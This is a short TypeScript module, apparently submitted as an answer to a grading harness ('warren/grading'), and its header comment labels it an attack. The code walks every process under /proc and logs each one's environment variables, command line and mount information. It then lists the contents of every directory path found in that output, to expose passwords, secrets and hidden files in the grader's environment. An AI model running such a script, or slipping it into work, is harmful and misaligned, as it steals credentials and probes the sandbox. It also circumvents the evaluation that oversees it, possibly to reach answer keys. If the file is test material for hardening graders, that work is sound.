// attack: prints environments and command lines of all processes, where paths and passwords may stand
import * as fs from 'node:fs';
import type { AnswerContext } from 'warren/grading';

export default async function ({ log }: AnswerContext): Promise<void> {
  for (const pid of fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
    for (const what of ['environ', 'cmdline', 'mountinfo']) {
      try {
        const text = fs.readFileSync(`/proc/${pid}/${what}`, 'utf8');
        log(pid, what, text);
        for (const [path] of text.matchAll(/\/[\w./-]+/g)) {
          try {
            log(path, fs.readdirSync(path).join(' '));
          } catch {
            // No folder.
          }
        }
      } catch (error) {
        log(pid, what, String(error));
      }
    }
  }
}
